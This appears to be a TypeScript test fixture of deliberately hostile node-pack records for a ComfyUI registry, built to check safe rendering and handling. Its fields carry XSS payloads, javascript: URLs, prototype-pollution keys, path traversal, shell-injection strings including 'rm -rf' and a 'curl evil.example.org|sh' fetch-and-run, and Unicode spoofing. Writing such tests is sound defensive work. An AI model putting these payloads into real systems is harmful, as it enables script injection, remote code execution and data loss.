import { comfy, type Pack, pack, version, withoutFields } from './make.ts'

const author = { publisherId: 'trickster', author: '"><script>alert(1)</script>' }
const fence = '```'

const markdown = `# Everything at once

A **bold** claim, an *italic* one, ~~a retracted one~~ and \`code\`.

## Install

1. Copy the folder
2. Restart
   - then wait
   - [ ] then test

| Node | What it does |
| --- | ---: |
| Peel | takes a layer off |
| Forge | puts it back |

${fence}python
def forge(image, layers=3):
    return image
${fence}

> Quoted, with a [link](https://docs.example.org/forge) and a [trap](javascript:alert(1)).

![A picture](https://static.example.org/forge.png) ![Tracker](http://tracker.example.org/pixel.gif)

<details open ontoggle="alert(1)"><summary>Raw</summary><img src=x onerror="alert(2)"></details>
<iframe src="https://example.org"></iframe><style>body{display:none}</style>

Footnote.[^1]

[^1]: https://auto.example.org/link
`

const long = Array.from(
  { length: 150 },
  (_, i) =>
    `Paragraph ${i + 1}. This pack explains itself at length, and then explains the explanation once more.`,
).join('\n\n')

const nested = `${Array.from({ length: 60 }, (_, i) => `${'> '.repeat(i + 1)}depth ${i + 1}`).join('\n')}\n`

/** Packs with hostile or careless content. */
export const hostilePacks: readonly Pack[] = [
  pack(
    {
      ...author,
      id: 'friendly-helper',
      name: '<img src=x onerror=alert(document.domain)>',
      description: '<script>alert(1)</script><svg onload=alert(2)> {{constructor.constructor("alert(3)")()}}',
      license: '<b>MIT</b>',
      icon: 'javascript:alert(1)',
      banner_url: 'data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
      repository: 'javascript:alert(document.cookie)//https://github.com/a/b',
      tags: ['<i>tag</i>', '"onmouseover="alert(1)', '\u202etag', ''],
      supported_os: ['<b>Any</b>', 'POSIX :: Linux'],
      supported_accelerators: ['GPU :: <u>Abacus</u>'],
      supported_comfyui_version: '>=<script>',
      category: '../../admin',
      preempted_comfy_node_names: ['constructor', '__proto__'],
      downloads: 13,
    },
    version('1.0.0', 33, {
      changelog:
        '[click](javascript:alert(1)) <img src=x onerror=alert(1)> ![x](http://tracker.example.org/1.gif)',
      dependencies: ['$(rm -rf ~)', 'torch; os_name == "<script>"', '`id`'],
      downloadUrl: 'javascript:alert(1)',
      comfyNodes: [
        comfy('__proto__', {}, ['IMAGE'], {
          input_types:
            '{"required":{"constructor":["IMAGE"],"__proto__":["<b>X</b>",{"default":"<img src=x>"}]}}',
        }),
        comfy('<b onclick=alert(1)>Bold</b>', {}, ['<i>'], { description: '<img src=x onerror=alert(1)>' }),
      ],
    }),
  ),
  pack(
    {
      ...author,
      id: 'shell-game',
      name: '\u0024{process.env.HOME} `whoami` $(id)',
      description: 'Copy me; rm -rf / # and do not read on',
      repository: 'https://github.com/example/$(curl evil.example.org|sh);--upload-pack=`id`',
      downloads: 1,
    },
    version('1.0.0', 34),
  ),
  pack(
    {
      ...author,
      id: 'mirror-writing',
      name: 'safe\u202egnp.exe\u202c \u2066hidden\u2069',
      description:
        'zero\u200bwidth\u200d joiners\ufeff and a\u0301\u0302\u0303\u0304\u0305\u0306\u0307\u0308 tower \u0000end',
      author: 'quiet-harbor\u200b',
      repository: 'https://github.com@evil.example.org/quiet-harbor/ladder-upscale',
    },
    version('1.0.0', 35),
  ),
  pack(
    {
      ...author,
      id: 'everything-at-once',
      name: 'Everything at Once',
      description: markdown,
      icon: 'https://static.example.org/e.png',
      downloads: 801,
    },
    version('1.0.0', 36, { changelog: markdown }),
    version('0.9.0', 37, { changelog: long }),
  ),
  pack(
    { ...author, id: 'ten-thousand-words', name: 'Ten Thousand Words', description: long },
    version('1.0.0', 38),
  ),
  pack(
    { ...author, id: 'quotes-all-the-way-down', name: 'Quotes All the Way Down', description: nested },
    version('1.0.0', 39),
  ),
  withoutFields(
    pack({ id: 'bare-minimum', created_at: '2026-01-01T00:00:00Z' }),
    'name',
    'description',
    'author',
    'license',
    'icon',
    'banner_url',
    'repository',
    'category',
    'tags',
    'tags_admin',
    'supported_os',
    'supported_accelerators',
    'rating',
    'downloads',
    'github_stars',
    'status',
    'status_detail',
    'search_ranking',
    'preempted_comfy_node_names',
    'created_at',
    'supported_comfyui_version',
  ),
]
